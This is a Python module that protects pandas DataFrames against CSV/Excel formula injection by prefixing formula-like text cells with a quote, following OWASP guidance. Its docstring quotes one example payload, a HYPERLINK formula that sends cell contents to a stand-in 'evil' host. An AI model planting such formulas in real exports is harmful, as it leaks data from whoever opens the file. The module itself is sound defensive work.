"""CSV/Excel formula injection: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read as a formula by spreadsheet programs, so a respondent could plant
``=HYPERLINK("http://evil/?"&A1,"click")`` in an answer that an admin later opens in Excel. OWASP's
"CSV Injection" guidance: prefix such cells with a single quote (and quote the cell, which pandas does
when needed). Only text cells are changed; numbers stay numbers.

Example:
    >>> import pandas as pd
    >>> neutralise(pd.DataFrame({"a": ["=1+1", "ok", "@SUM(A1)", "-2"], "n": [-1, 2, 3, 4]})).to_dict("list")
    {'a': ["'=1+1", 'ok', "'@SUM(A1)", "'-2"], 'n': [-1, 2, 3, 4]}
"""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value):
    """``'`` before a text value that a spreadsheet would read as a formula; anything else unchanged."""
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy with every text cell (and text column name) neutralised; see the module docstring."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            out[col] = out[col].map(neutralise_cell)
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out
